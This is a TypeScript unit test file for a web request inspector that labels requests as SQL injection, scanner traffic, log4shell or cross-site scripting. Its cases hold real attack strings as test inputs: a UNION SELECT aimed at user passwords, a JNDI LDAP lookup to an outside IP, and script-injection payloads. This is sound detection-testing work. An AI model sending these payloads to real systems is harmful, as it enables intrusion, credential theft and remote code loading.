import { expect, test } from 'vitest';
import { inspect } from './inspect.ts';
import type { WebRequest } from './web-inspection.types.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0';
const seen = (request: Partial<WebRequest>): readonly string[] =>
  inspect({ method: 'GET', target: '/news/today', headers: { 'user-agent': BROWSER }, ...request }).map(
    ({ kind }) => kind,
  );

test.each<[string, Partial<WebRequest>, string]>([
  ['by another method', { method: 'TRACE' }, 'protocol-attack'],
  ['with a body', { method: 'POST', body: 'q=1+UNION+SELECT+password+FROM+users--' }, 'sql-injection'],
  ['from a scanner', { headers: { 'user-agent': 'sqlmap/1.7' } }, 'scanner'],
  ['with a header that says more', { headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } }, 'log4shell'],
  ['after a referer that says more', { headers: { referer: 'https://a.example/?q=<script>alert(1)</script>' } }, 'xss'],
])('a target that was plain before is looked at %s', (_, request, kind) => {
  expect(seen({})).toEqual([]);
  expect(seen({})).toEqual([]);
  expect(seen(request)).toEqual([kind]);
});

test('what was found is found again', () => {
  const target = '/?q=%3Cscript%3Ealert(1)%3C/script%3E';
  expect(seen({ target })).toEqual(seen({ target }));
  expect(seen({ target })).not.toEqual([]);
});
